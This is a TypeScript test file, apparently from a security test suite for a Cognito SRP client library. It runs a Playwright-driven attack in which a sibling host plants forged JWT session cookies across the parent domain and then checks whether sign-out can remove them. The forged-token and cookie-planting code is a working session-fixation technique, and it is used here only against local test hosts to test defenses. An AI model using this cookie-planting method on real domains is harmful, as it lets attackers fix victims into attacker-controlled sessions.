import { launchChromium } from '@cognito-srp/testing/chromium'
import { listen } from '@cognito-srp/testing/listen'
import type { Page } from 'playwright'

import type * as Bundle from '../../packages/cognito-srp/test/bundle.ts'
import { attack } from './harness/attack.ts'

const APP = 'app.shop.test'
const SIBLING = 'eve.shop.test'
const PREFIX = 'CognitoIdentityServiceProvider.web'
const PLACES = ['domain=shop.test; path=/', 'domain=shop.test; path=/account', 'domain=shop.test; path=/account/']

/**
 * Script of the app's page. The script uses both APIs of the client and stores sessions in cookies, which any host in
 * the domain can set.
 */
const PROGRAM = `
import { cookieStorage, createCognitoClient, getSession, signOut } from '@cognito-srp/client'
import { CognitoUserPool, CookieStorage } from '@cognito-srp/client/identity-js'
const ids = { userPoolId: 'local_Pool1', clientId: 'web' }
const client = createCognitoClient({ ...ids, storage: cookieStorage({ secure: false }), fetch: () => Promise.reject(new Error('offline')) })
const Storage = new CookieStorage({ secure: false })
const pool = new CognitoUserPool({ UserPoolId: ids.userPoolId, ClientId: ids.clientId, Storage })
const nameOf = (error) => error.name
globalThis.page = {
  functions: {
    whoIsHere: () => getSession(client).then(({ username }) => username, nameOf),
    leave: () => signOut(client).then(() => 'signed out', nameOf),
  },
  classes: {
    whoIsHere: async () => pool.getCurrentUser()?.getUsername() ?? 'nobody',
    leave: async () => (pool.getCurrentUser()?.signOut(), 'signed out'),
  },
}`

declare global {
  var page: Record<string, { whoIsHere(): Promise<string>; leave(): Promise<string> }>
}

/** A session for the attacker's account, which a victim would use without noticing. */
function plantedItems(): Record<string, string> {
  const now = Math.floor(Date.now() / 1000)
  const claims = { sub: 'sub-of-eve', iat: now, exp: now + 3600, origin_jti: 'o' }
  const jwt = (more: object) => `e30.${Buffer.from(JSON.stringify({ ...claims, ...more })).toString('base64url')}.x`
  return {
    [`${PREFIX}.LastAuthUser`]: 'eve',
    [`${PREFIX}.eve.idToken`]: jwt({ token_use: 'id', aud: 'web' }),
    [`${PREFIX}.eve.accessToken`]: jwt({ token_use: 'access', client_id: 'web', username: 'eve' }),
    [`${PREFIX}.eve.clockDrift`]: '0',
  }
}

async function plant(page: Page, origin: string): Promise<void> {
  await page.goto(origin)
  await page.evaluate(
    ([items, places]) => {
      for (const [key, value] of Object.entries(items)) {
        for (const place of places) document.cookie = `${key}=${value}; max-age=3600; ${place}`
      }
    },
    [plantedItems(), PLACES] as const,
  )
}

export default attack({
  does: 'a page on a sibling host plants a session in cookies of the whole domain, which a sign-out cannot end',
  run: async (checkout) => {
    const { bundleForPages } = await checkout.load<typeof Bundle>('packages/cognito-srp/test/bundle.ts')
    const script = await bundleForPages(PROGRAM, { fromSources: true, format: 'iife' })
    const { port, close } = await listen((_request, response) => {
      response.writeHead(200, { 'content-type': 'text/html; charset=utf-8' })
      response.end(`<!doctype html><script>${script.replaceAll('</script', '<\\/script')}</script>`)
    })
    const resolving = `--host-resolver-rules=MAP *.shop.test 127.0.0.1`
    const browser = await launchChromium(resolving)
    const figures: Record<string, string> = {}
    let harm = false
    try {
      for (const library of ['functions', 'classes']) {
        const context = await browser.newContext()
        const page = await context.newPage()
        await plant(page, `http://${SIBLING}:${port}/`)
        await page.goto(`http://${APP}:${port}/account/settings`)
        const ask = (what: 'whoIsHere' | 'leave') =>
          page.evaluate(([name, call]) => globalThis.page[name]?.[call](), [library, what] as const)
        const [before, left, after] = [await ask('whoIsHere'), await ask('leave'), await ask('whoIsHere')]
        figures[library] = `before ${before}, the sign-out: ${left}, after it ${after}`
        harm ||= after === 'eve'
        await context.close()
      }
    } finally {
      await browser.close()
      await close()
    }
    return { harm, figures }
  },
})
